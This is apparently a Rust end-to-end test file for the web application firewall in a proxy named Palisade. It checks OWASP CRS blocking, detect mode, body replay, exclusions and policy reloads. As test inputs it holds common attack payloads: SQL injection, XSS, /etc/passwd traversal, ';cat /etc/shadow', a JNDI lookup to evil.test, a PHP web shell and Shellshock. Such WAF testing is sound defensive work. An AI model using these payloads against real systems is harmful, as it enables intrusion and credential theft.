//! End-to-end tests of the WAF in `palisade up`: the real binary loading the
//! real OWASP CRS, a recording origin, real HTTP/1.1 and HTTP/2 clients.
//!
//! CRS is found in `PALISADE_CRS_DIR`, else `../shared/crs/rules` (next to
//! the workspace), else Debian's `/usr/share/modsecurity-crs/rules` (see
//! `common::crs_dir`); without any, the tests fail.

mod common;

use common::*;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// SQL injection that CRS' regular-expression rules catch at paranoia level 1.
const SQLI: &str = "/?id=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users--";
/// `?q=1' OR '1'='1`: at paranoia level 1 only libinjection (rule 942100) catches it.
const TAUTOLOGY: &str = "/?q=1%27%20OR%20%271%27%3D%271";

/// What the origin received.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

/// An HTTP/1.1 origin that records every request and answers 200
/// (`Connection: close`, one request per connection).
struct RecordingOrigin {
    url: String,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl RecordingOrigin {
    fn start() -> RecordingOrigin {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(conn) = conn else { continue };
                let log = log.clone();
                std::thread::spawn(move || {
                    let _ = serve_one(conn, &log);
                });
            }
        });
        RecordingOrigin { url, seen }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn saw_target(&self, needle: &str) -> bool {
        self.seen().iter().any(|s| s.target.contains(needle))
    }
}

fn serve_one(conn: TcpStream, log: &Mutex<Vec<Seen>>) -> std::io::Result<()> {
    conn.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut reader = BufReader::new(conn.try_clone()?);
    let mut line = String::new();
    if reader.read_line(&mut line)? == 0 {
        return Ok(()); // a health check: connect and close
    }
    let mut parts = line.split_whitespace();
    let method = parts.next().unwrap_or("").to_string();
    let target = parts.next().unwrap_or("").to_string();
    let mut headers = Vec::new();
    loop {
        let mut h = String::new();
        reader.read_line(&mut h)?;
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            headers.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
        }
    }
    let header = |name: &str| {
        headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
    };
    let mut body = Vec::new();
    if let Some(n) = header("content-length").and_then(|v| v.parse::<usize>().ok()) {
        body.resize(n, 0);
        reader.read_exact(&mut body)?;
    } else if header("transfer-encoding").is_some_and(|v| v.contains("chunked")) {
        loop {
            let mut size = String::new();
            reader.read_line(&mut size)?;
            let n = usize::from_str_radix(size.trim(), 16).unwrap_or(0);
            let mut chunk = vec![0; n + 2];
            reader.read_exact(&mut chunk)?;
            if n == 0 {
                break;
            }
            body.extend_from_slice(&chunk[..n]);
        }
    }
    let reply = format!(
        "origin saw {method} {target} with {} body bytes\n",
        body.len()
    );
    log.lock().unwrap().push(Seen {
        method,
        target,
        headers,
        body,
    });
    let mut conn = conn;
    write!(
        conn,
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{reply}",
        reply.len()
    )?;
    conn.flush()
}

fn start(crs: &Path, waf_extra: &str, rest: &str) -> (RecordingOrigin, Up) {
    let origin = RecordingOrigin::start();
    let policy = format!(
        "[waf]\nskip_unsupported_rules = true\ncrs_dir = {:?}\n{waf_extra}\n{rest}",
        crs.display().to_string()
    );
    let up = Up::start(
        std::slice::from_ref(&origin.url),
        Some(&policy),
        &["--trusted-proxy", "127.0.0.1/32"],
    );
    (origin, up)
}

fn get(up: &Up, path: &str, ip: &str) -> u16 {
    up.get(path, Some(ip)).status().as_u16()
}

fn post_form(up: &Up, path: &str, ip: &str, body: &str) -> u16 {
    client()
        .post(format!("{}{}", up.proxy, path))
        .header("x-forwarded-for", ip)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body.to_string())
        .send()
        .unwrap()
        .status()
        .as_u16()
}

/// A benign form body of exactly `len` bytes.
fn form_body(len: usize) -> String {
    let mut s = String::from("name=Ada+Lovelace&email=ada%40example.org&message=");
    while s.len() < len {
        s.push_str("hello+world+");
    }
    s.truncate(len);
    s
}

fn waf_events(up: &Up) -> Vec<serde_json::Value> {
    up.events()
        .into_iter()
        .filter(|e| e["check"] == "waf")
        .collect()
}

fn rule_ids(ev: &serde_json::Value) -> Vec<u64> {
    ev["waf"]["rules"]
        .as_array()
        .map(|rs| rs.iter().filter_map(|r| r["id"].as_u64()).collect())
        .unwrap_or_default()
}

#[test]
fn blocks_attacks_passes_benign_traffic_and_replays_bodies() {
    let crs = crs_dir();
    let rest = r#"
[[waf.exclusions]]
path_prefix = "/search"
tags = ["attack-sqli"]

[allowlist]
ips = ["192.0.2.99"]

[[rules]]
id = "no-wp"
expression = 'http.request.uri.path starts_with "/wp-admin"'
action = "block"

[[escalations]]
id = "waf-offender"
kinds = ["waf"]
threshold = 2
window = "1m"
duration = "10m"
"#;
    let (origin, up) = start(&crs, "mode = \"block\"", rest);
    let c = client();

    // A benign GET with a query and cookies reaches the origin.
    let r = c
        .get(format!("{}/products?id=42&sort=price", up.proxy))
        .header("x-forwarded-for", "198.51.100.1")
        .header("cookie", "session=abc123; theme=dark")
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
        )
        .header("accept", "text/html")
        .send()
        .unwrap();
    assert_eq!(r.status(), 200, "{}", up.log());
    assert!(r
        .text()
        .unwrap()
        .starts_with("origin saw GET /products?id=42"));

    // SQL injection in the query: 403 from the edge, never at the origin.
    let r = up.get(SQLI, Some("198.51.100.2"));
    assert_eq!(r.status(), 403, "{}", up.log());
    assert!(r.headers().get("x-request-id").is_some());
    assert!(r.text().unwrap().contains("blocked by Palisade"));
    assert!(!origin.saw_target("UNION"));

    // XSS in a small url-encoded body: 403, and the origin never saw the request.
    assert_eq!(
        post_form(
            &up,
            "/comment",
            "198.51.100.3",
            "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
        ),
        403
    );
    assert!(!origin.saw_target("/comment"));

    // A benign 1 KB form: the origin receives exactly that body.
    let body = form_body(1024);
    assert_eq!(post_form(&up, "/contact", "198.51.100.4", &body), 200);
    let seen = origin.seen();
    let contact = seen.iter().find(|s| s.target == "/contact").unwrap();
    assert_eq!(contact.method, "POST");
    assert_eq!(String::from_utf8_lossy(&contact.body), body);

    // A 100 KiB form (under the default no-files limit, 128 KiB) is held,
    // inspected and replayed intact.
    let big = form_body(100 * 1024);
    assert_eq!(post_form(&up, "/upload", "198.51.100.5", &big), 200);
    let seen = origin.seen();
    let upload = seen.iter().find(|s| s.target == "/upload").unwrap();
    assert_eq!(upload.body.len(), big.len());
    assert!(upload.body == big.as_bytes());

    // The exclusion lets the SQL injection through on /search only.
    assert_eq!(
        get(&up, &SQLI.replacen('/', "/search", 1), "198.51.100.6"),
        200
    );
    assert!(origin.saw_target("/search?id="));
    assert_eq!(
        get(&up, &SQLI.replacen('/', "/browse", 1), "198.51.100.7"),
        403
    );

    // The allowlist skips the WAF; a custom rule that blocks comes first.
    assert_eq!(get(&up, SQLI, "192.0.2.99"), 200);
    assert_eq!(
        get(&up, &SQLI.replacen('/', "/wp-admin", 1), "198.51.100.8"),
        403
    );

    // Two WAF blocks ban the client: its third, benign request is refused by the decision.
    let ip = "203.0.113.50";
    assert_eq!(get(&up, SQLI, ip), 403);
    assert_eq!(get(&up, SQLI, ip), 403);
    assert_eq!(get(&up, "/products?id=1", ip), 403);
    assert!(!origin.saw_target("/products?id=1"));
    // Others are not affected.
    assert_eq!(get(&up, "/products?id=1", "198.51.100.1"), 200);

    // Events: the WAF blocks with their rules and score, then the decision.
    assert!(
        eventually(Duration::from_secs(5), || {
            let ev = up.events();
            ev.iter()
                .any(|e| e["check"] == "decision" && e["client_ip"] == ip)
                && waf_events(&up).len() >= 5
        }),
        "events: {:#?}",
        up.events()
    );
    let sqli = waf_events(&up)
        .into_iter()
        .find(|e| e["client_ip"] == "198.51.100.2")
        .expect("an event for the SQL injection");
    assert_eq!(sqli["rule_id"], "949110", "{sqli:#}");
    assert_eq!(sqli["action"], "block");
    assert_eq!(sqli["status"], 403);
    assert_eq!(sqli["simulate"], false);
    assert!(
        sqli["waf"]["anomaly_score"].as_i64().unwrap() >= 5,
        "{sqli:#}"
    );
    let ids = rule_ids(&sqli);
    assert!(
        ids.iter().any(|id| (942000..943000).contains(id)),
        "no SQL injection rule in {sqli:#}"
    );
    assert!(sqli["waf"]["rules"][0]["msg"].as_str().is_some());
    let xss = waf_events(&up)
        .into_iter()
        .find(|e| e["client_ip"] == "198.51.100.3")
        .expect("an event for the XSS body");
    assert!(
        rule_ids(&xss)
            .iter()
            .any(|id| (941000..942000).contains(id)),
        "no XSS rule in {xss:#}"
    );
    for ip in ["198.51.100.6", "192.0.2.99", "198.51.100.8"] {
        assert!(waf_events(&up).iter().all(|e| e["client_ip"] != ip), "{ip}");
    }
    assert!(up
        .events()
        .iter()
        .any(|e| e["rule_id"] == "no-wp" && e["client_ip"] == "198.51.100.8"));

    let m = up.metrics();
    for needle in [
        r#"palisade_waf_requests_total{result="block"}"#,
        r#"palisade_waf_requests_total{result="pass"}"#,
        "palisade_waf_seconds_bucket",
        r#"palisade_waf_rule_matches_total{rule_id="949110"}"#,
        r#"palisade_verdicts_total{check="waf",id="949110",simulate="false",verdict="block"}"#,
    ] {
        assert!(m.contains(needle), "missing {needle} in:\n{m}");
    }
    assert!(!m.contains("palisade_waf_rules 0"), "{m}");
    // Every body was inspected.
    assert!(!m.contains("palisade_waf_body_uninspected_total{"), "{m}");
}

#[test]
fn a_quoted_tautology_in_the_query_is_blocked() {
    let crs = crs_dir();
    let (origin, up) = start(&crs, "", "");
    assert_eq!(
        get(&up, TAUTOLOGY, "198.51.100.20"),
        403,
        "GET {TAUTOLOGY} was not blocked (at paranoia level 1 this needs libinjection, rule 942100); events: {:#?}",
        up.events()
    );
    assert!(!origin.saw_target("/?q="));
}

#[test]
fn http2_and_expect_continue_bodies_are_inspected_and_replayed() {
    let crs = crs_dir();
    // CRS 4 scores any `Expect` header (rule 920450, restricted headers); this
    // site allows it.
    let (origin, up) = start(
        &crs,
        r#"tx = { restricted_headers_basic = "/content-encoding/ /proxy/ /lock-token/ /content-range/ /if/ /x-http-method-override/ /x-http-method/ /x-method-override/ /x-middleware-subrequest/" }"#,
        "",
    );

    // HTTP/2 (h2c): a benign body is replayed to the origin, an attack is blocked.
    let h2 = reqwest::blocking::Client::builder()
        .http2_prior_knowledge()
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap();
    let body = form_body(2048);
    let r = h2
        .post(format!("{}/h2-form", up.proxy))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body.clone())
        .send()
        .unwrap();
    assert_eq!(r.version(), reqwest::Version::HTTP_2);
    assert_eq!(r.status(), 200, "{}", up.log());
    let seen = origin.seen();
    let s = seen.iter().find(|s| s.target == "/h2-form").unwrap();
    assert_eq!(String::from_utf8_lossy(&s.body), body);
    let r = h2
        .post(format!("{}/h2-attack", up.proxy))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    assert!(!origin.saw_target("/h2-attack"));

    // HTTP/1.1 with Expect: 100-continue: the edge asks for the body (this
    // origin never answers 100 itself), inspects it, and sends it on without
    // the Expect header.
    let addr = up.proxy.trim_start_matches("http://").to_string();
    let body = form_body(512);
    let mut conn = TcpStream::connect(&addr).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    write!(
        conn,
        "POST /continue HTTP/1.1\r\nHost: example.com\r\nUser-Agent: test\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nExpect: 100-continue\r\n\r\n",
        body.len()
    )
    .unwrap();
    let mut reader = BufReader::new(conn.try_clone().unwrap());
    let mut status = String::new();
    reader.read_line(&mut status).unwrap();
    assert!(status.starts_with("HTTP/1.1 100"), "{status:?}");
    let mut blank = String::new();
    while blank != "\r\n" {
        blank.clear();
        reader.read_line(&mut blank).unwrap();
    }
    conn.write_all(body.as_bytes()).unwrap();
    status.clear();
    reader.read_line(&mut status).unwrap();
    assert!(status.starts_with("HTTP/1.1 200"), "{status:?}");
    let seen = origin.seen();
    let s = seen.iter().find(|s| s.target == "/continue").unwrap();
    assert_eq!(String::from_utf8_lossy(&s.body), body);
    assert!(s.headers.iter().all(|(k, _)| k != "expect"), "{s:?}");
}

#[test]
fn detect_mode_reports_without_blocking() {
    let crs = crs_dir();
    let (origin, up) = start(&crs, "mode = \"detect\"", "");
    assert_eq!(get(&up, SQLI, "198.51.100.9"), 200);
    assert!(origin.saw_target("/?id="));
    assert!(
        eventually(Duration::from_secs(5), || !waf_events(&up).is_empty()),
        "no waf event: {:#?}",
        up.events()
    );
    let ev = &waf_events(&up)[0];
    assert_eq!(ev["rule_id"], "949110", "{ev:#}");
    assert_eq!(ev["action"], "log");
    assert_eq!(ev["simulate"], true);
    assert!(ev["status"].is_null(), "{ev:#}");
    let ids = rule_ids(ev);
    assert!(ids.contains(&949110), "{ev:#}");
    assert!(ids.iter().any(|id| (942000..943000).contains(id)), "{ev:#}");
    let m = up.metrics();
    assert!(
        m.contains(r#"palisade_waf_requests_total{result="detect"} 1"#),
        "{m}"
    );
}

/// A 60 KB body that matches every rule it can makes one bounded event
/// (issue 10: a request like it used to make a 1.4 MB event, each rule's
/// matched data copied whole).
#[test]
fn a_large_body_matching_many_rules_makes_a_small_event() {
    let crs = crs_dir();
    let (_origin, up) = start(&crs, "mode = \"detect\"", "");
    let attacks = [
        "1' UNION SELECT password FROM users--",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        ";cat /etc/shadow",
        "${jndi:ldap://evil.test/a}",
        "<?php system($_GET['c']); ?>",
        "() { :; }; /bin/bash -c id",
        "javascript:alert(1)",
    ];
    let mut body = String::new();
    let mut i = 0;
    while body.len() < 60_000 {
        let a = attacks[i % attacks.len()];
        body.push_str(&format!("f{i}={}&", a.repeat(30).replace(' ', "+")));
        i += 1;
    }
    assert_eq!(
        post_form(&up, "/contact", "198.51.100.61", &body),
        200,
        "detect mode"
    );
    assert!(
        eventually(Duration::from_secs(5), || !waf_events(&up).is_empty()),
        "no waf event"
    );
    let ev = &waf_events(&up)[0];
    let len = serde_json::to_string(ev).unwrap().len();
    assert!(
        len <= palisade_policy::event::MAX_EVENT_BYTES,
        "{len} bytes: {ev:#}"
    );
    let kept = rule_ids(ev).len() as u64;
    let omitted = ev["waf"]["rules_omitted"].as_u64().unwrap_or(0);
    assert!(kept >= 3, "{ev:#}");
    assert!(kept + omitted >= 10, "many rules matched: {ev:#}");
    for r in ev["waf"]["rules"].as_array().unwrap() {
        assert!(
            r["data"].as_str().unwrap().len() <= palisade_policy::event::field_limits::HIT_DATA,
            "{r}"
        );
    }
}

#[test]
fn a_policy_whose_waf_does_not_load_is_refused() {
    let crs = crs_dir();
    let (_origin, up) = start(&crs, "", "");
    let path = up.dir.path().join("policy.toml");
    // A reload that points at a missing directory keeps the running WAF.
    up.dir
        .write("policy.toml", "[waf]\ncrs_dir = \"/nonexistent/crs\"\n");
    assert!(
        eventually(Duration::from_secs(10), || up
            .metrics()
            .contains(r#"palisade_policy_reloads_total{result="invalid"} 1"#)),
        "{}",
        up.log()
    );
    assert!(up.log().contains("/nonexistent/crs"), "{}", up.log());
    assert_eq!(get(&up, SQLI, "198.51.100.10"), 403);

    // At start, the same policy stops the process with the reason.
    let out = std::process::Command::new(BIN)
        .args(["up", "--listen", &format!("127.0.0.1:{}", free_port())])
        .args(["--api", &format!("127.0.0.1:{}", free_port())])
        .arg("--data-dir")
        .arg(up.dir.path().join("data2"))
        .arg("--policy")
        .arg(&path)
        .env("PALISADE_ADMIN_TOKEN", "test-token-0123456789")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("cannot start the WAF"), "{err}");
    assert!(err.contains("/nonexistent/crs"), "{err}");
}

#[test]
fn waf_check_loads_crs_or_lists_errors() {
    let crs = crs_dir();
    let out = std::process::Command::new(BIN)
        .args(["waf", "check", "--rules"])
        .arg(&crs)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Which CRS, which version, which rules (digest), how many per phase.
    for needle in ["CRS:     ", "digest:  sha256:", "phase 1 ", ", 0 skipped"] {
        assert!(stdout.contains(needle), "missing {needle:?} in {stdout}");
    }
    assert!(
        stdout.contains("version: 4.") || stdout.contains("version: 3.3"),
        "{stdout}"
    );

    let out = std::process::Command::new(BIN)
        .args(["waf", "check", "--rules", "/nonexistent/crs"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a directory"));
}

#[test]
fn waf_without_crs_dir_finds_the_installed_crs() {
    // The test command installs Debian's CRS, which the search finds (or a
    // CRS placed earlier in the search order on this machine).
    assert!(
        std::path::Path::new("/usr/share/modsecurity-crs/rules").is_dir(),
        "install Debian's modsecurity-crs (scripts/test.sh does)"
    );
    let origin = RecordingOrigin::start();
    let up = Up::start(
        std::slice::from_ref(&origin.url),
        Some("[waf]\nmode = \"block\"\n"),
        &["--trusted-proxy", "127.0.0.1/32"],
    );
    assert_eq!(get(&up, SQLI, "198.51.100.40"), 403, "{}", up.log());
    assert!(up.log().contains("crs_version"), "{}", up.log());
}

#[test]
fn policy_validate_refuses_a_missing_crs_dir() {
    let dir = TempDir::new("validate-crs");
    let bad = dir.write("bad.toml", "[waf]\ncrs_dir = \"/nonexistent/crs\"\n");
    let out = std::process::Command::new(BIN)
        .args(["policy", "validate"])
        .arg(&bad)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("/nonexistent/crs") && err.contains("not a directory"),
        "{err}"
    );
    let crs = crs_dir();
    let good = dir.write(
        "good.toml",
        &format!("[waf]\ncrs_dir = {:?}\n", crs.display().to_string()),
    );
    let out = std::process::Command::new(BIN)
        .args(["policy", "validate"])
        .arg(&good)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn waf_conformance_reports_and_enforces_a_minimum() {
    let crs = crs_dir();
    let dir = TempDir::new("waf-cases");
    let headers =
        r#"[["Host","localhost"],["User-Agent","OWASP CRS test agent"],["Accept","text/html"]]"#;
    let cases = dir.write(
        "cases.jsonl",
        &format!(
            "{}\n{}\n",
            format_args!(r#"{{"id":"911100-1","rule_id":911100,"label":"block","method":"FOO","uri":"/","version":"HTTP/1.1","header_list":{headers},"expect_ids":[911100]}}"#),
            // Deliberately wrong: a plain GET does not fire 911100.
            format_args!(r#"{{"id":"911100-2","rule_id":911100,"label":"block","method":"GET","uri":"/","version":"HTTP/1.1","header_list":{headers},"expect_ids":[911100]}}"#),
        ),
    );
    let run = |extra: &[&str]| {
        std::process::Command::new(BIN)
            .args([
                "waf",
                "conformance",
                "--skip-unsupported",
                "--pl",
                "1",
                "--rules",
            ])
            .arg(&crs)
            .arg("--cases")
            .arg(&cases)
            .args(extra)
            .output()
            .unwrap()
    };
    let out = run(&[]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("911100-2"), "failures are listed: {text}");
    assert!(text.trim_end().ends_with("overall: 50.00% (1/2)"), "{text}");

    let out = run(&["--json", "--min-percent", "75"]);
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["overall"]["passed"], 1);
    assert_eq!(report["overall"]["total"], 2);
    assert_eq!(report["failures"][0]["id"], "911100-2");
}

#[test]
fn policy_versions_through_the_api_build_the_waf_or_are_refused() {
    let crs = crs_dir();
    let origin = RecordingOrigin::start();
    // Without --policy, policy versions come through the API and the mesh;
    // the files they name must be in the rule directory.
    let up = Up::start(
        std::slice::from_ref(&origin.url),
        None,
        &[
            "--trusted-proxy",
            "127.0.0.1/32",
            "--rules-dir",
            crs.to_str().unwrap(),
        ],
    );
    let c = client();
    let put = |body: String| {
        c.put(format!("{}/api/v1/policy", up.api))
            .bearer_auth(&up.token)
            .body(body)
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    assert_eq!(get(&up, SQLI, "198.51.100.30"), 200);
    assert_eq!(
        put(format!(
            "[waf]\nskip_unsupported_rules = true\ncrs_dir = {:?}\n",
            crs.display().to_string()
        )),
        201
    );
    assert!(
        eventually(Duration::from_secs(30), || get(&up, SQLI, "198.51.100.31")
            == 403),
        "{}",
        up.log()
    );

    // The node reports which CRS it runs in its heartbeat.
    assert!(
        eventually(Duration::from_secs(10), || {
            let nodes: serde_json::Value = c
                .get(format!("{}/api/v1/nodes", up.api))
                .bearer_auth(&up.token)
                .send()
                .unwrap()
                .json()
                .unwrap();
            nodes.as_array().is_some_and(|n| {
                n.len() == 1
                    && n[0]["crs_digest"]
                        .as_str()
                        .is_some_and(|d| d.starts_with("sha256:") && d.len() == 71)
                    && n[0]["crs_version"].is_string()
                    && n[0]["crs_differs"] == false
            })
        }),
        "{}",
        up.log()
    );

    // Rules outside the rule directory are refused by the control plane.
    assert_eq!(put("[waf]\ncrs_dir = \"/nonexistent/crs\"\n".into()), 422);
    // A version whose rules are not on this machine is stored (with a
    // warning: the control plane could not compile it) and refused by the
    // edge; the WAF stays.
    let missing = crs.join("missing");
    assert_eq!(
        put(format!(
            "[waf]\ncrs_dir = {:?}\n",
            missing.display().to_string()
        )),
        201
    );
    assert!(
        eventually(Duration::from_secs(10), || up
            .log()
            .contains("invalid policy version")),
        "{}",
        up.log()
    );
    assert!(
        up.log().contains("does not exist on this node"),
        "{}",
        up.log()
    );
    assert_eq!(get(&up, SQLI, "198.51.100.32"), 403);
    assert!(up
        .metrics()
        .contains(r#"palisade_policy_reloads_total{result="invalid"} 1"#));
}

/// The quick start's policy (examples/policy.toml) protects the origin with
/// CRS in block mode, with no extra step: no crs_dir, an installed CRS is
/// found (the test command installs Debian's).
#[test]
fn the_example_policy_blocks_sql_injection_out_of_the_box() {
    let (_origin, origin_url) = demo_origin();
    let example = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/policy.toml"),
    )
    .unwrap();
    let up = Up::start(std::slice::from_ref(&origin_url), Some(&example), &[]);
    let get = |path: &str| up.browser_status(path, "shop.example.com");
    assert_eq!(get("/?q=running+shoes"), 200, "{}", up.log());
    assert_eq!(get(SQLI), 403, "{}", up.log());
    assert_eq!(get(TAUTOLOGY), 403);
}
